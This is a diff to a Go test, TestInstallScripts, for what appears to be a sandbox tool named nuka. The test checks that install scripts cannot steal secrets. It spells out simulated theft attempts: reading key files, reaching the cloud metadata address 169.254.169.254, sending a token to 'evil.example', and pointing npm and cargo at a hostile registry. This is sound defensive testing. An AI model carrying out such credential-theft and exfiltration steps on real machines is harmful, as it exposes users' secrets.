@@ -156,8 +156,6 @@ func TestInstallScripts(t *testing.T) {
 		"read:HOME/keys read:HOME/store write:HOME/store/stolen write:DIR/other/stolen unix:HOME/run/control.sock unix:DIR/agent unix:DIR/bus tcp:SERVICE env:s3cret env:DIR/agent"))
 	tries := strings.Join(append(slices.Clone(local), "tcp:169.254.169.254:80", "name:example.com", "get:https://evil.example/s3cret", "get:http://169.254.169.254/latest/meta-data/"), " ")
 	server := evilRegistries(t, tries)
-	write(".npmrc", "registry="+server.URL+"/npm/\n//"+strings.TrimPrefix(server.URL, "http://")+"/npm/:_authToken=s3cret\n")
-	write(".cargo/config.toml", "[source.crates-io]\nreplace-with = \"own\"\n[source.own]\nregistry = \"sparse+"+server.URL+"/cargo/\"\n")
 	env := []string{
 		"HOME=" + dir, "NUKA_HOME=" + home, "PATH=" + programs + ":/usr/bin:/bin", "TERM=dumb", "NPM_TOKEN=s3cret", "GITHUB_TOKEN=s3cret", "AWS_SECRET_ACCESS_KEY=s3cret",
 		"SSH_AUTH_SOCK=" + dir + "/agent", "DBUS_SESSION_BUS_ADDRESS=unix:path=" + dir + "/bus", "PIP_INDEX_URL=" + strings.Replace(server.URL, "http://", "http://me:s3cret@", 1) + "/pip",
@@ -169,10 +167,17 @@ func TestInstallScripts(t *testing.T) {
 		return string(out), err
 	}
 	nuka := filepath.Join(programs, "nuka")
-	defer run(".", nuka, "daemon", "stop")                //nolint:errcheck // the home goes
+	defer run(".", nuka, "daemon", "stop") //nolint:errcheck // the home goes
 	if out, err := run(".", nuka, "key", "show"); err != nil {
 		t.Fatalf("%v\n%s", err, out)
 	}
+	for _, in := range installers() { // with the registries of this machine: the runtime of Node has npm of npm's
+		if out, err := run(".", nuka, "exec", "--runtime", in.runtime, "--", "true"); err != nil {
+			t.Fatalf("%v\n%s", err, out)
+		}
+	}
+	write(".npmrc", "registry="+server.URL+"/npm/\n//"+strings.TrimPrefix(server.URL, "http://")+"/npm/:_authToken=s3cret\n")
+	write("project-cargo/.cargo/config.toml", "[source.crates-io]\nreplace-with = \"own\"\n[source.own]\nregistry = \"sparse+"+server.URL+"/cargo/\"\n")
 	// Outside of nuka each attempt succeeds, so each is a real one.
 	if out, err := run(".", append([]string{filepath.Join(filepath.Dir(programs), "tool.native"), "steal"}, local...)...); err != nil || strings.Contains(out, "kept") {
 		t.Fatalf("outside of nuka: %v\n%s", err, out)
